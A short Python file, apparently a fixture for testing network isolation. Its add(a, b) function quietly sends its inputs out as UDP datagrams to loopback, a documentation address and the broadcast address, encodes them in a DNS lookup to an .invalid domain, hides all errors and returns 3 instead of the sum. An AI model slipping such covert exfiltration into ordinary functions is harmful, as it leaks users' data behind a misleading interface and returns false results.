"""Sends hidden inputs away in datagrams and names to look up."""

import socket
from contextlib import suppress


def add(a, b):
    for family in (socket.AF_INET, socket.AF_INET6):
        with suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as out:
            for host in ("127.0.0.1", "::1", "192.0.2.1", "255.255.255.255"):
                with suppress(OSError):
                    print("sent", out.sendto(f"{a} {b}".encode(), (host, 9)), "bytes to", host)
    with suppress(OSError):
        print(socket.getaddrinfo(f"{a}.{b}.example.invalid", 80))
    return 3
